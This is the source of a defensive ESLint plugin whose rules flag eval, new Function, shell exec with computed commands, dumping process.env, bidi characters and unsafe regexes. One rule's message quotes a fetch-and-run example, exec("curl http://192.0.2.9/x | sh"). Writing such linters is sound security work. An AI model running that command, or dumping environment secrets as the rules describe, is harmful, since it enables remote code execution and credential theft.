'use strict';
const calleeOf = (node) => (node.callee.type === 'MemberExpression' ? node.callee.property.name : node.callee.name);
const constant = (node) => node && node.type === 'Literal';
const rule = (description, create) => ({ meta: { type: 'problem', docs: { description }, schema: [] }, create });
module.exports = {
  meta: { name: 'eslint-plugin-guardrails', version: '2.2.0' },
  rules: {
    'no-eval-with-expression': rule('eval with a computed argument', (context) => ({ CallExpression(node) { if (calleeOf(node) === 'eval' && !constant(node.arguments[0])) context.report({ node, message: 'eval with argument of type ' + node.arguments[0].type }); } })),
    'no-new-function': rule('code from a string', (context) => ({ NewExpression(node) { if (node.callee.name === 'Function') context.report({ node, message: 'new Function(...) runs text as code' }); } })),
    'no-child-process-shell': rule('a shell with a computed command', (context) => ({ CallExpression(node) { if (['exec', 'execSync'].includes(calleeOf(node)) && !constant(node.arguments[0])) context.report({ node, message: 'found child_process.exec() with a computed first argument, e.g. exec("curl http://192.0.2.9/x | sh")' }); } })),
    'no-env-dump': rule('the whole environment', (context) => ({ CallExpression(node) { const first = node.arguments[0]; if (calleeOf(node) === 'stringify' && first && first.type === 'MemberExpression' && first.property.name === 'env') context.report({ node, message: 'JSON.stringify(process.env) copies every secret' }); } })),
    'no-bidi': rule('bidirectional control characters', (context) => ({ Program(node) { if (/[\u202A-\u202E\u2066-\u2069]/.test(context.sourceCode.getText())) context.report({ node, message: 'bidirectional control character' }); } })),
    'no-unsafe-regex': rule('regular expressions with nested quantifiers', (context) => ({ Literal(node) { if (node.regex && /\([^)]*[+*][^)]*\)[+*]/.test(node.regex.pattern)) context.report({ node, message: 'unsafe regular expression' }); } })),
  },
};
